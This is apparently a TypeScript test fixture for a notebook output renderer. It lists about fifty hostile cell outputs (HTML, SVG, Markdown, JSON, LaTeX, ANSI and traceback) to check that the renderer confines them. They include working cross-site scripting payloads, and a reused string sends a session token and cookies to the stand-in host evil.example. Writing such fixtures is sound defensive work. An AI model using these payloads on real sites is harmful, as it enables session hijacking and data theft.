/** Calls of the mark, which no output may make in the page. A frame without an origin can call only its own. */
const act = "window.top.hacked=1;top.location='http://evil.example/nav'";
/** Sends the token away, by every way that a script has. */
const steal =
  "fetch('http://evil.example/f?'+sessionStorage.getItem('granary-token'));new Image().src='http://evil.example/i';" +
  "navigator.sendBeacon&&navigator.sendBeacon('http://evil.example/b');window.hacked=1;parent.hacked=1;" +
  "parent.postMessage({height:1e9,html:'<script>hacked=1</script>'},'*')";

const html = (text: string): object => display({ "text/html": text });
const svg = (text: string): object => display({ "image/svg+xml": text });
const markdown = (text: string): object => display({ "text/markdown": text });
const text = (content: string): object => ({ output_type: "stream", name: "stdout", text: content });

function display(data: object, metadata: object = {}): object {
  return { output_type: "display_data", data, metadata };
}

const deepList = `${"[".repeat(800)}${"]".repeat(800)}`;

/** Outputs that try to act on the page, by what they are. */
export const hostileOutputs: Readonly<Record<string, object>> = {
  "HTML with a script": html(`<script>${steal}</script>`),
  "HTML with an image that fails": html(`<img src=x onerror="${steal}">`),
  "HTML with an SVG that loads": html(`<svg onload="${steal}"></svg>`),
  "HTML that navigates the top window": html(`<script>${act}</script>`),
  "HTML with a form that submits itself": html(
    "<form action=http://evil.example/form target=_top><input name=a></form><script>document.forms[0].submit()</script>",
  ),
  "HTML with a link to the top window": html(
    "<a id=l target=_top href=http://evil.example/link>x</a><script>document.getElementById('l').click()</script>",
  ),
  "HTML with a meta refresh": html("<meta http-equiv=refresh content='0;url=http://evil.example/meta'>"),
  "HTML with a base": html("<base href=http://evil.example/><img src=base.png><script src=s.js></script>"),
  "HTML with a frame of the page": html("<iframe src=/page onload='top.hacked=1'></iframe>"),
  "HTML with a srcdoc frame": html(`<iframe srcdoc="<script>top.hacked=1;parent.parent.hacked=1</script>"></iframe>`),
  "HTML with an object and an embed": html(
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
  ),
  "HTML with a style sheet from elsewhere": html(
    "<link rel=stylesheet href=http://evil.example/c.css><style>@import 'http://evil.example/d.css';body{background:url(http://evil.example/g)}</style>",
  ),
  "HTML with a prefetch": html(
    "<link rel=prefetch href=http://evil.example/p><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://evil.example>",
  ),
  "HTML that connects ahead": html(
    "<link rel=preconnect href=http://evil.example crossorigin><link rel=preconnect href=http://evil.example>",
  ),
  "HTML that opens a channel to a peer": html(
    `<script>try{const peer=new RTCPeerConnection({iceServers:[{urls:"turn:evil.example?transport=tcp",username:"data",credential:"x"},{urls:"stun:evil.example"}]});peer.createDataChannel("x");peer.createOffer().then((offer)=>peer.setLocalDescription(offer))}catch(e){}</script>`,
  ),
  "HTML that opens a window": html("<script>window.open('http://evil.example/w');window.open('/page')</script>"),
  "HTML that asks for the page's routes": html(
    "<script>fetch('/page/api/sessions').then(r=>r.text()).then(t=>{top.hacked=t}).catch(()=>{})</script>",
  ),
  "HTML that opens a socket": html(
    "<script>try{new WebSocket('ws://evil.example/s')}catch(e){};try{new EventSource('http://evil.example/es')}catch(e){}</script>",
  ),
  "HTML that starts a worker": html(
    "<script>try{new Worker(URL.createObjectURL(new Blob(['fetch(\"http://evil.example/wk\")'])))}catch(e){}</script>",
  ),
  "HTML that reads storage and cookies": html(
    "<script>try{top.hacked=sessionStorage.getItem('granary-token')+document.cookie}catch(e){};try{top.hacked=parent.sessionStorage.length}catch(e){}</script>",
  ),
  "HTML that floods the page with messages": html(
    "<script>for(let i=0;i<2000;i++)parent.postMessage({height:i%2?1e12:-1,__proto__:{x:1},html:'<b>'},'*')</script>",
  ),
  "HTML that navigates its own frame": html("<script>location='http://evil.example/self'</script>"),
  "HTML that navigates its frame to a script": html("<script>location='javascript:top.hacked=1'</script>"),
  "HTML with alert, confirm and prompt": html("<script>alert(1);confirm(2);prompt(3);print()</script>"),
  "HTML that goes full screen and locks the pointer": html(
    "<script>document.documentElement.requestFullscreen?.().catch(()=>{});document.body?.requestPointerLock?.()</script>",
  ),
  "HTML of a table with a script": html(`<table><tr><td>1</td></tr></table><script>${steal}</script>`),
  "HTML of a table with handlers": html(
    `<table onmouseover="${steal}"><thead><tr><th><b onclick="${act}">a</b></th></tr></thead><tbody><tr><td><img src=x onerror="${act}">1</td></tr></tbody></table>`,
  ),
  "HTML of a table whose text is HTML": html(
    "<table><thead><tr><th>&lt;img src=x onerror=hacked=1&gt;</th></tr></thead><tbody><tr><td>&lt;script&gt;hacked=1&lt;/script&gt;</td></tr></tbody></table>",
  ),
  "HTML that is cut in the middle": html(
    "<img src=x onerror=top.hacked=1 <table><scr<script>ipt>top.hacked=1</scr</script>",
  ),
  "SVG with a script": svg(
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script><rect width="9" height="9"/></svg>`,
  ),
  "SVG with handlers": svg(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><animate onbegin="${act}" attributeName="x" dur="1s"/></svg>`,
  ),
  "SVG with a foreign object": svg(
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${act}</script><iframe src="http://evil.example/fo"/></body></foreignObject></svg>`,
  ),
  "SVG that loads from elsewhere": svg(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="http://evil.example/im"/><use xlink:href="http://evil.example/u#a"/><style>@import url(http://evil.example/sc)</style></svg>`,
  ),
  "SVG with an entity": svg(
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/ent">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  ),
  "a picture that is no picture": display(
    { "image/png": `x" onerror="${act}` },
    { "image/png": { width: '1" onload="hacked=1' } },
  ),
  "Markdown with a script": markdown(`# a\n\n<script>${steal}</script>\n\n<img src=x onerror="${steal}">`),
  "Markdown with script links": markdown(
    "[a](javascript:hacked=1) [b](JaVaScRiPt:hacked=1) [c](data:text/html,<script>top.hacked=1</script>) [d](vbscript:x) <javascript:hacked=1>",
  ),
  "Markdown with pictures from elsewhere": markdown(
    "![a](http://evil.example/md.png) <img srcset='http://evil.example/set 2x' src='http://evil.example/src'> <picture><source srcset=http://evil.example/ps></picture>",
  ),
  "Markdown with frames, forms and styles": markdown(
    "<iframe src=/page></iframe><form action=/page/api/token><button>x</button></form><style>*{display:none}</style><link rel=stylesheet href=http://evil.example/ml>",
  ),
  "Markdown with names of the page": markdown(
    '<div id="content" class="locked">x</div><a name="hacked" href="#/">y</a><img name="place" id="token"><form name="sessionStorage">',
  ),
  "Markdown with MathML and mutation": markdown(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;"></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=hacked=1>">`,
  ),
  "Markdown with code that closes itself": markdown(
    "```</code></pre><script>hacked=1</script>\nx\n```\n`<img src=x onerror=hacked=1>`",
  ),
  "JSON with keys of HTML": display({
    "application/json": { "<img src=x onerror=hacked=1>": "<script>hacked=1</script>", constructor: { prototype: 1 } },
  }),
  "JSON with the names of prototypes": display({
    "application/json": JSON.parse('{"__proto__":{"hacked":1,"isTrusted":true},"toString":1,"hasOwnProperty":null}'),
  }),
  "JSON that is very deep": display({ "application/json": JSON.parse(deepList) }),
  "LaTeX with HTML": display({
    "text/latex": "$$\\href{javascript:hacked=1}{x} <img src=x onerror=hacked=1> \\htmlData{a=b}{c}$$",
  }),
  "a JavaScript display": display({ "application/javascript": `${steal};${act}`, "text/plain": "<Javascript>" }),
  "a type of HTML in another case": display({ "Text/HTML": `<script>${steal}</script>`, "text/plain": "plain" }),
  "a type with a name of the page": display({
    "application/vnd.granary.status+json": { text: "<b onclick=hacked=1>", total: "x", done: {} },
  }),
  "text of HTML": text(`<script>${steal}</script><img src=x onerror="${act}">\n`),
  "ANSI with a link and a title": text(
    "\u001b]8;;javascript:hacked=1\u0007click\u001b]8;;\u0007 \u001b]0;hacked title\u0007 \u001b]52;c;aGFja2Vk\u0007 \u001b[31mred\u001b[0m\n",
  ),
  "ANSI colours that are no colours": text(
    "\u001b[38;2;1;2;300;url(http://evil.example/ansi)mx\u001b[0m \u001b[38;5;99999999999mx \u001b[1;2;3;99999999999999H\u001b[99999999B\u001b[99999999Cfar\n",
  ),
  "text that goes from right to left": text("\u202e\u2066txet\u2069 \u200f\u0000\u0008\u007f\ufeff \ud800 lone\n"),
  "a traceback of HTML": {
    output_type: "error",
    ename: "<img src=x onerror=hacked=1>",
    evalue: `"><script>${act}</script>`,
    traceback: [
      "\u001b[0;31m---\u001b[0m",
      'File <a href="javascript:hacked=1">/usr/lib/python3/site-packages/<script>hacked=1</script>/x.py</a>:1, in <module>',
      "<iframe src=http://evil.example/tb></iframe>",
    ],
  },
  "outputs that are no outputs": {
    output_type: "display_data",
    data: { "text/html": [1, { a: 2 }, "<script>hacked=1</script>"], "text/plain": null },
    metadata: [],
  },
};
